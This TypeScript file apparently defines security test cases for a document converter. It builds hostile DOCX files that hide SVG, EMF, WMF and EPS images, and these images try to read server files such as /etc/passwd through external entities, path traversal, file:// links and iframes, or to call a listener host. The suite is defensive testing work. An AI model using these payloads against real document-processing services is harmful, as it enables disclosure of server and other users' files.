import { docxFile, paragraph } from '../support/docx-file.ts'
import { fieldCases } from './docx-field-cases.ts'
import * as f from './docx-fragments.ts'
import { partCases } from './docx-part-cases.ts'
import type { HostileFile, Targets } from './hostile-file.ts'
import * as p from './hostile-pictures.ts'

const doctype = '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">'
const spaces = '\n'.repeat(500)

const asPng = (make: (targets: Targets) => string | Uint8Array, name = 'a.png', type = 'image/png') => {
  return (targets: Targets) =>
    docxFile({ body: f.para(f.picture()), ...f.holding('image', `media/${name}`, make(targets), type) })
}

/** Pictures that are not what their name says, or that contain something else. */
const disguises: Record<string, HostileFile['make']> = {
  'an SVG named .png that embeds a picture of the server': asPng(t => p.svgOf(t.files.png)),
  'an SVG named .jpeg that embeds an SVG of the server': asPng(t => p.svgOf(t.files.svg), 'a.jpeg', 'image/jpeg'),
  'an SVG named .png that embeds a PDF of the server': asPng(t => p.svgOf(t.files.pdf)),
  'an SVG named as such that embeds a picture of the server': asPng(
    t => p.svgOf(t.files.png),
    'a.svg',
    'image/svg+xml',
  ),
  'an SVG that fetches a picture': asPng(t => p.svgOf(`${t.listener}/a.png`)),
  'an SVG that embeds the file of another organization': asPng(t => p.svgOf(t.secrets.otherFile)),
  'an SVG that reads a picture of the server by a relative path': asPng(t =>
    p.svg(`<image width="200" height="200" xlink:href="${'../'.repeat(30)}${t.files.png.slice(1)}"/>`),
  ),
  'an SVG packed by gzip': asPng(t => p.packed(p.svgOf(t.files.png))),
  'an SVG packed by gzip, named as a packed metafile': asPng(
    t => p.packed(p.svgOf(t.files.png)),
    'a.emz',
    'image/x-emz',
  ),
  'an SVG in an SVG as a data URI': asPng(t => p.nestedSvgOf(t.files.png)),
  'an SVG after a UTF-8 byte order mark': asPng(t => p.svgOf(t.files.png, '\ufeff')),
  'an SVG in UTF-16': asPng(t => p.utf16(p.svgOf(t.files.png, '<?xml version="1.0" encoding="UTF-16"?>'))),
  'an SVG after a document type': asPng(t => p.svgOf(t.files.png, `<?xml version="1.0"?>${doctype}`)),
  'an SVG after many line feeds': asPng(t => p.svgOf(t.files.png, spaces)),
  'an SVG after a comment': asPng(t => p.svgOf(t.files.png, '<!-- \x89PNG -->')),
  'an SVG with an external entity': asPng(t =>
    p.svg('<text x="9" y="99">&x;</text>', `<!DOCTYPE svg [<!ENTITY x SYSTEM "file://${t.files.txt}">]>`),
  ),
  'an SVG with an external entity of the account file': asPng(() =>
    p.svg('<text x="9" y="99">&x;</text>', '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
  ),
  'an SVG that uses a shape of another file': asPng(t => p.svg(`<use xlink:href="file://${t.files.svg}#x"/>`)),
  'an SVG that shows another file as foreign content': asPng(t =>
    p.svg(
      `<foreignObject width="200" height="200"><iframe xmlns="http://www.w3.org/1999/xhtml" src="file://${t.files.txt}"/></foreignObject>`,
    ),
  ),
  'an SVG that imports a style sheet': asPng(t =>
    p.svg(`<style>@import url("${t.listener}/a.css");</style><rect width="9" height="9"/>`),
  ),
  'an SVG after the signature of a GIF': asPng(t => Buffer.from(`GIF8<!---->${p.svgOf(t.files.png)}`)),
  'an EMF whose EMF+ holds an SVG': asPng(
    t => p.emfPlusImage(p.compressedBitmap(Buffer.from(p.svgOf(t.files.png)))),
    'a.emf',
    'image/x-emf',
  ),
  'an EMF whose EMF+ holds an SVG packed by gzip': asPng(
    t => p.emfPlusImage(p.compressedBitmap(p.packed(p.svgOf(t.files.png)))),
    'a.emf',
    'image/x-emf',
  ),
  'an EMF whose EMF+ holds an EMF whose EMF+ holds an SVG': asPng(
    t => p.emfPlusImage(p.nestedMetafile(p.emfPlusImage(p.compressedBitmap(Buffer.from(p.svgOf(t.files.png)))))),
    'a.emf',
    'image/x-emf',
  ),
  'an EMF whose EMF+ calls an SVG a metafile': asPng(
    t => p.emfPlusImage(p.nestedMetafile(Buffer.from(p.svgOf(t.files.png)))),
    'a.emf',
    'image/x-emf',
  ),
  'an EMF packed by gzip whose EMF+ holds an SVG': asPng(
    t => p.packed(p.emfPlusImage(p.compressedBitmap(Buffer.from(p.svgOf(t.files.png))))),
    'a.emz',
    'image/x-emz',
  ),
  'an EMF with an SVG as its better format': asPng(
    t => p.emfMultiFormats(' FDP', Buffer.from(p.svgOf(t.files.png))),
    'a.emf',
    'image/x-emf',
  ),
  'a WMF with an EMF in its escapes whose EMF+ holds an SVG': asPng(
    t => p.wmfHolding(p.emfPlusImage(p.compressedBitmap(Buffer.from(p.svgOf(t.files.png))))),
    'a.wmf',
    'image/x-wmf',
  ),
  'an EPS that runs a file': asPng(
    t =>
      `%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 200 200\n(${t.files.txt}) (r) file 200 string readstring pop show\n`,
    'a.eps',
    'image/x-eps',
  ),
}

/** Places where a document can show a picture, each with an SVG named .png. */
const places: Record<string, HostileFile['make']> = {
  'an SVG as the picture of a shape': t =>
    docxFile({ body: f.para(f.filledShape()), ...f.holding('image', 'a.png', p.svgOf(t.files.png)) }),
  'an SVG as a picture of VML': t =>
    docxFile({ body: f.para(f.vmlPicture('r:id="rId1"')), ...f.holding('image', 'a.png', p.svgOf(t.files.png)) }),
  'an SVG as the fill of VML': t =>
    docxFile({ body: f.para(f.vmlFill('r:id="rId1"')), ...f.holding('image', 'a.png', p.svgOf(t.files.png)) }),
  'an SVG as the fill of VML, by the name of another vocabulary': t =>
    docxFile({ body: f.para(f.vmlFill('o:relid="rId1"')), ...f.holding('image', 'a.png', p.svgOf(t.files.png)) }),
  'an SVG in the extension of a picture': t => {
    const svgBlip =
      '<a:blip><a:extLst><a:ext uri="{96DAC541-7B7A-43D3-8B79-37D633B846F1}"><asvg:svgBlip r:embed="rId1"/></a:ext></a:extLst></a:blip>'
    return docxFile({
      body: f.para(f.drawn(svgBlip)),
      ...f.holding('image', 'a.svg', p.svgOf(t.files.png), 'image/svg+xml'),
    })
  },
  'an SVG in the fallback of a choice': t =>
    docxFile({
      body: f.para(
        f.run(
          `<mc:AlternateContent ${f.declared}><mc:Choice Requires="wpi" xmlns:wpi="urn:x"/><mc:Fallback>${f.vmlPicture('r:id="rId1"').replace(/<\/?w:r>/g, '')}</mc:Fallback></mc:AlternateContent>`,
        ),
      ),
      ...f.holding('image', 'a.png', p.svgOf(t.files.png)),
    }),
  'an SVG as the picture of an object': t =>
    docxFile({
      body: f.para(f.oleObject('Type="Embed" r:id="rId2"', '<v:imagedata r:id="rId1"/>')),
      ...f.holding('image', 'a.png', p.svgOf(t.files.png)),
    }),
  'an SVG in a header': t =>
    f.withPart(
      `${paragraph('text')}<w:sectPr><w:headerReference w:type="default" r:id="rId1"/></w:sectPr>`,
      {
        type: 'header',
        name: 'header1.xml',
        xml: `<w:hdr ${f.declared}>${f.para(f.picture())}</w:hdr>`,
        contentType: f.word('header'),
        rows: [f.relationship('rId1', 'image', 'a.png')],
      },
      { 'word/a.png': p.svgOf(t.files.png) },
    ),
  'an SVG in a footnote': t =>
    f.withPart(
      f.para(f.run('<w:footnoteReference w:id="2"/>')),
      {
        type: 'footnotes',
        name: 'footnotes.xml',
        xml: `<w:footnotes ${f.declared}><w:footnote w:id="2">${f.para(f.picture())}</w:footnote></w:footnotes>`,
        contentType: f.word('footnotes'),
        rows: [f.relationship('rId1', 'image', 'a.png')],
      },
      { 'word/a.png': p.svgOf(t.files.png) },
    ),
  'an SVG as the bullet of a list': t =>
    f.withPart(
      f.para(`<w:pPr><w:numPr><w:ilvl w:val="0"/><w:numId w:val="1"/></w:numPr></w:pPr>${f.text('an item')}`),
      {
        type: 'numbering',
        name: 'numbering.xml',
        xml: `<w:numbering ${f.declared}><w:numPicBullet w:numPicBulletId="0">${f.vmlPicture('r:id="rId1"').replace(/<\/?w:r>/g, '')}</w:numPicBullet><w:abstractNum w:abstractNumId="0"><w:lvl w:ilvl="0"><w:start w:val="1"/><w:numFmt w:val="bullet"/><w:lvlText w:val="*"/><w:lvlPicBulletId w:val="0"/></w:lvl></w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num></w:numbering>`,
        contentType: f.word('numbering'),
        rows: [f.relationship('rId1', 'image', 'a.png')],
      },
      { 'word/a.png': p.svgOf(t.files.png) },
    ),
  'an SVG as the background of the page': t =>
    docxFile({
      ...f.holding('image', 'a.png', p.svgOf(t.files.png)),
      files: {
        'word/a.png': p.svgOf(t.files.png),
        'word/document.xml': `<w:document ${f.declared}><w:background w:color="FFFFFF"><v:background><v:fill r:id="rId1" type="frame"/></v:background></w:background><w:body>${paragraph('text')}</w:body></w:document>`,
      },
    }),
  'an SVG as the fill of a chart': t =>
    f.withPart(
      f.para(f.chartFrame()),
      {
        type: 'chart',
        name: 'charts/chart1.xml',
        xml: `<c:chartSpace ${f.declared}><c:chart><c:plotArea><c:layout/><c:pieChart><c:ser><c:idx val="0"/><c:order val="0"/><c:val><c:numRef><c:f>A1</c:f><c:numCache><c:ptCount val="1"/><c:pt idx="0"><c:v>1</c:v></c:pt></c:numCache></c:numRef></c:val></c:ser></c:pieChart></c:plotArea></c:chart><c:spPr><a:blipFill><a:blip r:embed="rId1"/><a:stretch><a:fillRect/></a:stretch></a:blipFill></c:spPr></c:chartSpace>`,
        contentType: 'application/vnd.openxmlformats-officedocument.drawingml.chart+xml',
        rows: [f.relationship('rId1', 'image', '../a.png')],
      },
      { 'word/a.png': p.svgOf(t.files.png) },
    ),
}

/** Pictures outside of the package. */
const linked = (make: (targets: Targets) => { blip: string; type?: string; target: string }): HostileFile['make'] => {
  return targets => {
    const { blip, type = 'image', target } = make(targets)
    return docxFile({ body: f.para(blip), relationships: [{ type, target, external: true }] })
  }
}
const byLink = f.drawn('<a:blip r:link="rId1"/>')
const links: Record<string, HostileFile['make']> = {
  'a picture linked to a file': linked(t => ({ blip: byLink, target: `file://${t.files.png}` })),
  'a picture linked to an SVG of the server': linked(t => ({ blip: byLink, target: `file://${t.files.svg}` })),
  'a picture linked to a PDF of the server': linked(t => ({ blip: byLink, target: `file://${t.files.pdf}` })),
  'a picture linked to the network': linked(t => ({ blip: byLink, target: `${t.listener}/a.png` })),
  'a picture linked by a relationship of type hyperlink': linked(t => ({
    blip: byLink,
    type: 'hyperlink',
    target: `${t.listener}/a.png`,
  })),
  'a picture embedded by a relationship of type hyperlink': linked(t => ({
    blip: f.picture(),
    type: 'hyperlink',
    target: `${t.listener}/a.png`,
  })),
  'a picture embedded from a file': linked(t => ({ blip: f.picture(), target: `file://${t.files.png}` })),
  'a picture of VML linked to a file': linked(t => ({
    blip: f.vmlPicture('r:href="rId1"'),
    target: `file://${t.files.png}`,
  })),
  'a picture of VML linked by two names': linked(t => ({
    blip: f.vmlPicture('r:id="rId1" r:href="rId1"'),
    target: `file://${t.files.png}`,
  })),
  'a picture of VML with the path of a file': t =>
    docxFile({ body: f.para(f.vmlPicture(`src="file://${t.files.png}"`)) }),
  'a picture of VML with an address': t => docxFile({ body: f.para(f.vmlPicture(`o:href="${t.listener}/a.png"`)) }),
  'a fill of VML with the path of a file': t =>
    docxFile({ body: f.para(f.vmlFill(`src="file://${t.files.png}" o:href="file://${t.files.png}"`)) }),
  'a picture declared as part of the package, at the path of a file': t =>
    docxFile({ body: f.para(f.picture()), relationships: [{ type: 'image', target: `file://${t.files.png}` }] }),
  'a picture declared as part of the package, at a path above it': t =>
    docxFile({
      body: f.para(f.picture()),
      relationships: [{ type: 'image', target: `${'../'.repeat(30)}${t.files.png.slice(1)}` }],
    }),
}

/** DOCX files that try to read a target, to reach the listener, or to leave something behind. */
export const docxCases: HostileFile[] = [
  ...Object.entries({ ...disguises, ...places, ...links }).map(([name, make]) => ({ name, make })),
  ...fieldCases,
  ...partCases,
].map(otherCase => ({ filename: 'contract.docx', ...otherCase }))
